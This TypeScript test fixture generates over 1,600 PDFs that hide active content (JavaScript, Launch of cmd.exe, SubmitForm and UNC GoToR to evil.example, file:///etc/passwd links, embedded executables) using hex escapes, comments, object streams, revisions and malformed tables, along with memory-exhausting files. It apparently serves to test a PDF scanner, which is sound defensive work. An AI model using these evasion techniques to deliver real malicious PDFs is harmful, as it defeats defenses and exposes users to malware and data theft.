/**
 * PDFs whose active content is hidden from a byte scanner and found by a reader of objects: odd spacing and comments, escapes, object
 * streams in every spelling, later and earlier revisions, malformed and hybrid tables. Each action is hidden in each way.
 */
import { deflateSync } from 'node:zlib';
import { type NamedFile, pageObjects, pdfOf } from '../files.ts';

/** Content that a viewer would run, fetch or unpack. */
const actions: ReadonlyArray<readonly [name: string, action: string]> = [
  ['JavaScript', '<< /S /JavaScript /JS (app.alert(1)) >>'],
  ['JavaScript in hex', '<</S/JavaScript/JS<6170702e616c657274283129>>>'],
  ['JS in a stream', '<< /S /JavaScript /JS 9 0 R >>'],
  ['Launch', '<< /S /Launch /F (cmd.exe) >>'],
  ['Launch for Windows', '<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>'],
  ['SubmitForm', '<< /S /SubmitForm /F << /FS /URL /F (https://evil.example) >> >>'],
  ['ImportData', '<< /S /ImportData /F (x.fdf) >>'],
  ['GoToR', '<< /S /GoToR /F (\\\\\\\\evil.example\\\\share) /D [0 /Fit] >>'],
  ['GoToE', '<< /S /GoToE /T << /R /C >> >>'],
  ['Rendition', '<< /S /Rendition /OP 0 /JS (x) >>'],
  ['Movie', '<< /S /Movie /T (x) >>'],
  ['Sound', '<< /S /Sound /Sound 9 0 R >>'],
  ['RichMedia', '<< /Subtype /RichMedia /RichMediaContent << >> >>'],
  ['an attachment', '<< /Type /Filespec /F (x.exe) /EF << /F 9 0 R >> /EmbeddedFile 9 0 R >>'],
  ['an attached annotation', '<< /Subtype /FileAttachment /FS << /F (x.exe) >> >>'],
  ['XFA', '<< /Fields [] /XFA [(template) 9 0 R] >>'],
  ['AA', '<< /AA << /O << /S /URI /URI (https://evil.example) >> >> >>'],
  ['a script as an address', '<< /S /URI /URI (javascript:app.alert\\(1\\)) >>'],
  ['a script as a spaced address', '<< /S /URI /URI (\\n Java\\tScript:alert) >>'],
  ['a file as an address', '<< /S /URI /URI (file:///etc/passwd) >>'],
  ['JS alone', '<< /JS (app.alert(1)) >>'],
  ['a form of attachments', '<< /EmbeddedFiles << /Names [(x) 9 0 R] >> >>'],
  ['a rich media command', '<< /S /RichMediaExecute /TA 9 0 R >>'],
  ['a script of a 3D scene', '<< /Subtype /3D /3DD << /OnInstantiate 9 0 R >> >>'],
  ['GoToDp', '<< /S /GoToDp /Dp 9 0 R >>'],
  ['OpenAction', '<< /OpenAction << /S /Named /N /Print >> >>'],
];

const hexOf = (name: string, upper: boolean) =>
  Array.from(name, (letter) => {
    const code = letter.charCodeAt(0).toString(16);
    return `#${upper ? code.toUpperCase() : code}`;
  }).join('');

/** Every name with escapes: all letters, capitals in the hex, or only the first. */
const escapes: ReadonlyArray<(object: string) => string> = [
  (object) => object.replaceAll(/\/([A-Za-z]+)/g, (_, name: string) => `/${hexOf(name, false)}`),
  (object) => object.replaceAll(/\/([A-Za-z]+)/g, (_, name: string) => `/${hexOf(name, true)}`),
  (object) =>
    object.replaceAll(
      /\/([A-Za-z])([A-Za-z]*)/g,
      (_, first: string, rest: string) => `/${hexOf(first, false)}${rest}`,
    ),
];

/** White space and comments in place of one space. */
const spacings: ReadonlyArray<readonly [string, (object: string) => string]> = [
  ['comments', (object) => object.replaceAll(' ', ' % >> endobj\n')],
  ['comments ended by CR', (object) => object.replaceAll(' ', '%x\r')],
  ['NUL bytes', (object) => object.replaceAll(' ', '\0')],
  ['form feeds', (object) => object.replaceAll(' ', '\f')],
];

interface StreamSpelling {
  readonly begin?: string;
  readonly filter?: string;
  readonly extra?: string;
  readonly length?: (bytes: number) => string;
  readonly encode?: (bytes: Buffer) => Buffer;
}

const hexBytes = (bytes: Buffer) => Buffer.from(`${bytes.toString('hex')}>`);

const spellings: ReadonlyArray<readonly [string, StreamSpelling]> = [
  ['a comment before the stream', { begin: ' % c\nstream\n' }],
  ['twenty blanks before the stream', { begin: `${' '.repeat(20)}stream\n` }],
  ['hundred line breaks before the stream', { begin: `${'\n'.repeat(100)}stream\n` }],
  ['a stream after a lone CR', { begin: '\rstream\r\n' }],
  ['a lone CR after the keyword', { begin: '\nstream\r' }],
  ['a blank after the keyword', { begin: '\nstream \n' }],
  ['nothing before the stream', { begin: 'stream\n' }],
  ['a filter in an array', { filter: '[/FlateDecode]' }],
  ['a filter by reference', { filter: '9 0 R' }],
  ['an escaped filter', { filter: '/Flate#44ecode' }],
  [
    'two filters',
    { filter: '[/ASCIIHexDecode /FlateDecode]', encode: (bytes) => hexBytes(deflateSync(bytes)) },
  ],
  ['no filter', { filter: '', encode: (bytes) => bytes }],
  ['hex only', { filter: '/ASCIIHexDecode', encode: hexBytes }],
  ['a length by reference', { length: () => '9 0 R' }],
  ['a length that is too short', { length: () => '3' }],
  ['a length that is too long', { length: (bytes) => `${bytes + 500}` }],
  ['no length', { length: () => 'null' }],
  ['parameters', { extra: '/DecodeParms << /Predictor 1 >>' }],
  ['a stream before it', { extra: '/Extends 4 0 R' }],
];

/** An object stream (ISO 32000-1, 7.5.7) with object 7, spelled in this way. */
function packed(action: string, spelling: StreamSpelling): string {
  const {
    begin = '\nstream\n',
    filter = '/FlateDecode',
    extra = '',
    length = String,
    encode = (bytes: Buffer) => deflateSync(bytes),
  } = spelling;
  const data = encode(Buffer.from(`7 0 ${action}`, 'latin1'));
  const filtered = filter && `/Filter ${filter}`;
  return `<< /Type /ObjStm /N 1 /First 4 ${filtered} ${extra} /Length ${length(data.length)} >>${begin}${data.toString('latin1')}\nendstream`;
}

const opening = (number: number) => pageObjects({ catalog: `/OpenAction ${number} 0 R` });

/** A second revision with these objects, after a complete file. */
function revised(
  whole: Buffer,
  objects: ReadonlyArray<readonly [head: string, object: string]>,
  trailer = '',
): Buffer {
  const text = objects.map(([head, object]) => `${head}\n${object}\nendobj\n`).join('');
  const at = whole.length + text.length;
  return Buffer.concat([
    whole,
    Buffer.from(
      `${text}xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 20 /Root 1 0 R /Prev 400 ${trailer} >>\nstartxref\n${at}\n%%EOF\n`,
      'latin1',
    ),
  ]);
}

function hidden(action: string): ReadonlyArray<readonly [where: string, bytes: Buffer]> {
  const plain = pdfOf(pageObjects());
  const [catalog = ''] = opening(7);
  const inText = (object: string) => pdfOf([...opening(6), object]);
  const swapped = (from: string, to: string) =>
    Buffer.from(inText(action).toString('latin1').replace(from, to), 'latin1');
  return [
    ...escapes.map((spell, place) => [`with escapes ${place}`, inText(spell(action))] as const),
    ...spacings.map(([name, space]) => [`with ${name}`, inText(space(action))] as const),
    ...spellings.flatMap(([name, spelling]) => [
      [`in an object stream with ${name}`, pdfOf([...opening(7), packed(action, spelling)])] as const,
      [
        `escaped in an object stream with ${name}`,
        pdfOf([...opening(7), packed((escapes[0] as (text: string) => string)(action), spelling)]),
      ] as const,
    ]),
    ['in an object stream in an object stream', pdfOf([...opening(8), packed(packed(action, {}), {})])],
    [
      'in a later revision',
      revised(plain, [
        ['1 0 obj', catalog],
        ['7 0 obj', action],
      ]),
    ],
    ['in an earlier revision', revised(inText(action), [['1 0 obj', pageObjects()[0] as string]])],
    ['under a number that is used twice', revised(plain, [['5 0 obj', action]])],
    ['under a number that is used twice, first', revised(inText(action), [['6 0 obj', '<< /A 1 >>']])],
    [
      'in another generation',
      revised(plain, [
        ['1 0 obj', catalog.replace('7 0 R', '7 3 R')],
        ['7 3 obj', action],
      ]),
    ],
    ['without a blank in its head', swapped('\n6 0 obj\n', '\n6 0 obj')],
    ['with comments in its head', swapped('\n6 0 obj\n', '\n6 % 1\n0 % 2\nobj % 3\n')],
    ['without an end', swapped(`${action}\nendobj`, action)],
    ['behind rubbish', swapped('\n6 0 obj\n', '\nrubbish 1 2 3 \x01\x02\n6 0 obj\n')],
    [
      'in a hybrid file',
      revised(
        plain,
        [
          ['1 0 obj', catalog],
          ['7 0 obj', action],
        ],
        '/XRefStm 20',
      ),
    ],
    [
      'as another root',
      revised(
        plain,
        [
          ['11 0 obj', catalog],
          ['7 0 obj', action],
        ],
        '/Root 11 0 R',
      ),
    ],
    ['with a table that points elsewhere', swapped('startxref\n', 'startxref\n1')],
    [
      'with a table of free objects',
      Buffer.from(inText(action).toString('latin1').replaceAll('00000 n', '00000 f'), 'latin1'),
    ],
    [
      'in the tree of names',
      pdfOf([...pageObjects({ catalog: '/Names << /JavaScript << /Names [(a) 6 0 R] >> >>' }), action]),
    ],
    ['in an annotation', pdfOf([...pageObjects({ page: `/Annots [<< /Subtype /Link /A ${action} >>]` })])],
    [
      'deep in arrays',
      pdfOf([...pageObjects({ catalog: `/Extra ${'['.repeat(50)}${action}${']'.repeat(50)}` })]),
    ],
    [
      'after a harmless action',
      pdfOf([...pageObjects({ catalog: `/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next ${action} >>` })]),
    ],
    [
      'in the bytes of a stream',
      pdfOf([...opening(7), `<< /Length 9 >>\nstream\n7 0 obj\n${action}\nendobj\nendstream`]),
    ],
    [
      'in the bytes of a stream, far from its number',
      pdfOf([
        ...opening(7),
        `<< /Length 9 >>\nstream\n7 0${' '.repeat(400)}obj\n${action}\nendobj\nendstream`,
      ]),
    ],
  ];
}

/** A name used as a value elsewhere. */
const byReference = (): NamedFile[] =>
  ['JavaScript', 'Launch', 'SubmitForm', 'GoToR', 'ImportData'].map((name) => ({
    name: `pdf with ${name} by reference`,
    bytes: pdfOf([...opening(6), '<< /S 7 0 R /F (x) >>', `/${name}`]),
  }));

/** Files that take a careless reader much time or memory. */
const heavyPdfs = (): NamedFile[] => [
  ...[27, 2_000].map((times) => ({
    name: `pdf with ${times} comments before nothing`,
    bytes: Buffer.from(
      `%PDF-1.4\n1 ${'%\n\n'.repeat(times)}x\ntrailer\n<< /Root 1 0 R >>\nstartxref\n9\n%%EOF\n`,
      'latin1',
    ),
  })),
  { name: 'pdf with arrays without an end', bytes: pdfOf([...pageObjects(), '['.repeat(1_000_000)]) },
  {
    name: 'pdf with rubbish between its objects',
    bytes: Buffer.concat([
      Buffer.from(`%PDF-1.4\n1 0 obj ${'<< 1 '.repeat(200_000)}`),
      pdfOf(pageObjects()).subarray(9),
    ]),
  },
  {
    name: 'pdf with a packed stream of opening actions',
    bytes: pdfOf([...pageObjects(), packed(`<< ${'/OpenAction 1 0 R '.repeat(100_000)} >>`, {})]),
  },
];

/** The same disguises around an action that only goes to a page: a reader refuses these for their form alone. */
export const disguisedGoTo = (): NamedFile[] =>
  hidden('<< /S /GoTo /D [3 0 R /Fit] >>').map(([where, bytes]) => ({
    name: `pdf with GoTo ${where}`,
    bytes,
  }));

/** More than 1,600 files. */
export const hiddenPdfs = (): NamedFile[] => [
  ...actions.flatMap(([name, action]) =>
    hidden(action).map(([where, bytes]) => ({ name: `pdf with ${name} ${where}`, bytes })),
  ),
  ...byReference(),
  ...heavyPdfs(),
];
